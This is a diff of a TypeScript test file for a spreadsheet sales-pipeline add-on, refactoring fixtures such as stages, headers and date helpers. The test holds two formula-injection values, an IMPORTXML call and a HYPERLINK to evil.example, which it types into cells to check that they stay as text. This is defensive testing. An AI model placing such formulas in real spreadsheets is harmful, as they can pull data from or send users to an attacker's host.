@@ -6,7 +6,12 @@
  * the trend window. Hostile text typed into cells (leading apostrophe) must come out as text.
  */
 import { Emulator } from '../../emulator';
-import { DEAL_HEADERS, loadedEmulator, readTab, writeTab } from '../helpers/workbook';
+import { dayNumber as day } from '../../fixtures/calendar-days';
+import { DEAL_HEADERS, dealColumn, dealRow } from '../../fixtures/deals';
+import { HISTORY_HEADERS } from '../../fixtures/history';
+import { DEFAULT_STAGES as STAGES, defaultStage as stageOf } from '../../fixtures/stages';
+import { summarySection as section } from '../helpers/summary-tab';
+import { loadedEmulator, readTab, writeTab } from '../helpers/workbook';
 
 // The emulator's clock: 2026-11-23 15:00 UTC, a Monday morning in New York (the sheet's zone).
 const TODAY = '2026-11-23';
@@ -14,17 +19,6 @@ const ZONE = 'America/New_York';
 const EVIL_DEAL = '=IMPORTXML("http://evil.example","//a")';
 const EVIL_OWNER = '=HYPERLINK("http://evil.example","click")';
 
-interface StageDef { name: string; p: number; outcome: 'Open' | 'Won' | 'Lost'; staleAfter: number | null }
-const STAGES: StageDef[] = [
-  { name: 'Lead Generation', p: 0.1, outcome: 'Open', staleAfter: 14 },
-  { name: 'Initial Contact', p: 0.2, outcome: 'Open', staleAfter: 7 },
-  { name: 'Qualification', p: 0.3, outcome: 'Open', staleAfter: 14 },
-  { name: 'Proposal', p: 0.5, outcome: 'Open', staleAfter: 10 },
-  { name: 'Negotiation', p: 0.75, outcome: 'Open', staleAfter: 7 },
-  { name: 'Closed Won', p: 1, outcome: 'Won', staleAfter: null },
-  { name: 'Closed Lost', p: 0, outcome: 'Lost', staleAfter: null },
-];
-const stageOf = (name: string): StageDef => STAGES.find((s) => s.name === name) as StageDef;
 const indexOf = (name: string): number => STAGES.findIndex((s) => s.name === name);
 
 interface Fixture {
@@ -57,14 +51,13 @@ const HISTORY: [string, string, string][] = [
   ['F-11', '', 'Qualification'], ['F-11', 'Qualification', 'Proposal'], ['F-11', 'Proposal', 'Closed Lost'],
 ];
 
-const day = (iso: string): number => Date.parse(`${iso}T00:00:00Z`) / 86_400_000;
 const today = day(TODAY);
 const val = (d: Fixture): number => (d.value === '' ? 0 : d.value);
 /** The probability a deal weighs with (DOMAIN.md): Won 100%, Lost 0%, else its own when given, else its stage's. */
 function weight(d: Fixture): number {
   const s = stageOf(d.stage);
-  if (s.outcome !== 'Open') return s.p;
-  if (d.prob === '') return s.p;
+  if (s.outcome !== 'Open') return s.probability;
+  if (d.prob === '') return s.probability;
   const n = typeof d.prob === 'number' ? d.prob : Number(String(d.prob).replace('%', ''));
   return n > 1 ? n / 100 : n;
 }
@@ -73,30 +66,24 @@ const isoOf = (v: unknown): unknown => (v instanceof Date || Object.prototype.to
 
 function build(): Emulator {
   const emu = loadedEmulator();
-  const cell = (d: Fixture, h: string): unknown => ({
+  const cells = (d: Fixture): Record<string, unknown> => ({
     'Deal ID': d.id, Deal: d.deal.startsWith('=') ? '' : d.deal, Owner: d.owner.startsWith('=') ? '' : d.owner, Company: 'C', Stage: d.stage, Value: d.value,
     Probability: d.prob, 'Expected Close': d.close, Created: d.created, 'Stage Entered': d.entered, 'Last Activity': d.activity, 'Lost Reason': d.lost,
-  } as Record<string, unknown>)[h] ?? '';
-  writeTab(emu, 'Deals', [DEAL_HEADERS, ...DEALS.map((d) => DEAL_HEADERS.map((h) => cell(d, h)))]);
+  });
+  writeTab(emu, 'Deals', [DEAL_HEADERS, ...DEALS.map((d) => dealRow(cells(d)))]);
   // Hostile text typed as a user types it: the leading apostrophe keeps it text, so "=..." reaches the add-on.
   emu.counter.quiet(() => {
     const sheet = emu.book.getSheetByName('Deals')!;
     const row = DEALS.findIndex((d) => d.deal === EVIL_DEAL) + 2;
-    sheet.getRange(row, DEAL_HEADERS.indexOf('Deal') + 1).setValue(`'${EVIL_DEAL}`);
-    sheet.getRange(row, DEAL_HEADERS.indexOf('Owner') + 1).setValue(`'${EVIL_OWNER}`);
+    sheet.getRange(row, dealColumn('Deal') + 1).setValue(`'${EVIL_DEAL}`);
+    sheet.getRange(row, dealColumn('Owner') + 1).setValue(`'${EVIL_OWNER}`);
   });
-  writeTab(emu, 'Stage History', [['Timestamp', 'Deal ID', 'Deal', 'From', 'To', 'Changed by', 'Via', 'Note'],
+  writeTab(emu, 'Stage History', [HISTORY_HEADERS,
     ...HISTORY.map(([id, from, to]) => ['2026-06-01', id, 'x', from, to, 'rep', 'edit', ''])]);
   emu.call('menuSetUpPipeline');
   return emu;
 }
 
-const section = (rows: unknown[][], title: RegExp): unknown[][] => {
-  const start = rows.findIndex((r) => title.test(String(r[0])));
-  if (start < 0) throw new Error(`no section ${String(title)}`);
-  const end = rows.findIndex((r, i) => i > start && r.every((c) => c === ''));
-  return rows.slice(start + 1, end < 0 ? rows.length : end);
-};
 const close = (a: unknown[][], b: unknown[][]): void => {
   expect(a.length).toBe(b.length);
   a.forEach((row, i) => row.forEach((v, j) => {
